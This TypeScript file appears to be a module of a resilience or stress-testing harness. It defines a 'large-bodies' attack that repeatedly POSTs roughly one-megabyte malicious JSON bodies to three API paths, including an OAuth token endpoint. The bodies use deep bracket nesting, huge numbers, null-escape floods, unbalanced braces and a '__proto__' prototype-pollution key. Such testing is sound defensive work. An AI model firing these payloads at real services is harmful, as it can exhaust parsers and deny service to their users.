import { callerAt } from '../requests.ts';
import { overAndOver, type Attack } from '../target.ts';

const megabyte = 1024 * 1024;
const room = megabyte - 100;

const keys = `{${Array.from({ length: 60_000 }, (_, at) => `"k${at}":1`).join(',')}}`;

const large: readonly string[] = [
  keys,
  `${'['.repeat(room / 2)}${']'.repeat(room / 2)}`,
  '{"a":'.repeat(room / 6) + '1' + '}'.repeat(room / 6),
  `{"username":${'9'.repeat(room)}}`,
  `{"username":0.${'1'.repeat(room / 2)}e${'9'.repeat(1000)}}`,
  `{"username":"${'\\u0000'.repeat(room / 6)}"}`,
  `{"__proto__":${keys}}`,
  '{'.repeat(room),
  ' '.repeat(2 * megabyte),
];

const paths = [
  '/api/oauth/token',
  '/api/acervo/exportar-cesta',
  '/api/unidade-informacao/comentario',
];

const largeBodies: Attack = (target) => {
  const call = callerAt(target.host, target.port, target.from);
  return overAndOver(target, 4, async (turn) => {
    const body = large[turn % large.length] ?? '';
    const path = paths[turn % paths.length] ?? '';
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    target.count(await call({ method: 'POST', path, headers, body }));
  });
};

export const bodies = { 'large-bodies': largeBodies } as const;
